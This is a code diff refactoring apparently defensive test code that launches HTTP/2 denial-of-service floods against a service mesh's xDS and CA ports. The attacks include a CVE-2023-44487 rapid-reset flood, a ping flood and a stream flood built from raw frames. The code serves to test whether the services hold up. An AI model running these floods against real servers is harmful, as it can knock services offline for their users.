@@ -1,73 +1,20 @@
 import { connect, type ClientHttp2Session } from 'node:http2';
 import { expect, type Attack, type Service } from '../../attack.ts';
-import { closedWithin, many, tcp, tls } from '../../clients/sockets.ts';
-import type { Mesh } from '../../mesh/attacked-mesh.ts';
+import {
+  connected,
+  frame,
+  frames,
+  grpcPorts,
+  greet,
+  requestBlock as request,
+  streamId,
+  write,
+} from '../../clients/frames.ts';
+import { closedWithin, many } from '../../clients/sockets.ts';
 import type { Port } from '../../mesh/places.ts';
-import type { Socket } from 'node:net';
+import { floods } from './frame-floods.ts';
 
-/** Ports that speak HTTP/2, and the service behind each. */
-const grpcPorts: readonly { readonly port: Port; readonly service: Service }[] = [
-  { port: 'xds', service: 'pilot' },
-  { port: 'secure-xds', service: 'pilot' },
-  { port: 'ca', service: 'citadel' },
-];
-const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-/** A frame (RFC 9113, 4.1). */
-function frame(
-  type: number,
-  {
-    flags = 0,
-    stream = 0,
-    payload = Buffer.alloc(0),
-  }: { readonly flags?: number; readonly stream?: number; readonly payload?: Buffer } = {},
-): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
-const [headers, rst, settings, ping, windowUpdate, continuation] = [1, 3, 4, 6, 8, 9];
-const endHeaders = 4;
-/** `:method: POST`, `:scheme: http`, `:path: /` of the static table (RFC 7541, A). */
-const request = Buffer.from([0x83, 0x86, 0x84]);
-
-async function connected(mesh: Mesh, port: Port): Promise<Socket> {
-  const socket =
-    port === 'xds'
-      ? await tcp(mesh.place(port))
-      : await tls(mesh.place(port), { certificate: await mesh.certificate() });
-  mesh.onClose(() => socket.destroy());
-  socket.resume();
-  return socket;
-}
-const write = (socket: Socket, bytes: Buffer): Promise<void> =>
-  new Promise((resolve) => {
-    if (socket.destroyed) return resolve();
-    const timer = setTimeout(resolve, 1000);
-    socket.write(bytes, () => (clearTimeout(timer), resolve()));
-  });
-type Flood = (i: number) => Buffer;
-const floods =
-  (
-    name: string,
-    describe: string,
-    { flood, count, chunk = 500 }: { readonly flood: Flood; readonly count: number; readonly chunk?: number },
-  ) =>
-  (port: Port, service: Service): Attack => ({
-    service,
-    kind: 'http2',
-    name: `${name} on ${port}`,
-    describe,
-    run: async (mesh) => {
-      const socket = await connected(mesh, port);
-      await write(socket, Buffer.concat([preface, frame(settings)]));
-      for (let i = 0; i < count && !socket.destroyed; i += chunk)
-        await write(socket, Buffer.concat(Array.from({ length: Math.min(chunk, count - i) }, (_, j) => flood(i + j))));
-    },
-  });
-const ids = (i: number): number => 2 * i + 1;
+const { headers, rst, settings, ping, windowUpdate, continuation, endHeaders } = frames;
 
 const kinds = [
   // CVE-2023-44487
@@ -75,8 +22,8 @@ const kinds = [
     count: 50_000,
     flood: (i) =>
       Buffer.concat([
-        frame(headers, { flags: endHeaders, stream: ids(i), payload: request }),
-        frame(rst, { stream: ids(i), payload: Buffer.from([0, 0, 0, 8]) }),
+        frame(headers, { flags: endHeaders, stream: streamId(i), payload: request }),
+        frame(rst, { stream: streamId(i), payload: Buffer.from([0, 0, 0, 8]) }),
       ]),
   }),
   floods('200,000 pings', 'pings: the connection ends or costs little, others are served', {
@@ -130,7 +77,7 @@ const streams = (port: Port, service: Service): Attack => ({
   deadlineMs: 40_000,
   run: async (mesh) => {
     const socket = await connected(mesh, port);
-    await write(socket, Buffer.concat([preface, frame(settings)]));
+    await greet(socket);
     const path = Buffer.concat([
       request,
       Buffer.from([0x40 | 0, 12]),
@@ -143,7 +90,7 @@ const streams = (port: Port, service: Service): Attack => ({
         socket,
         Buffer.concat(
           Array.from({ length: 500 }, (_, j) =>
-            frame(headers, { flags: endHeaders, stream: ids(i + j), payload: path }),
+            frame(headers, { flags: endHeaders, stream: streamId(i + j), payload: path }),
           ),
         ),
       );
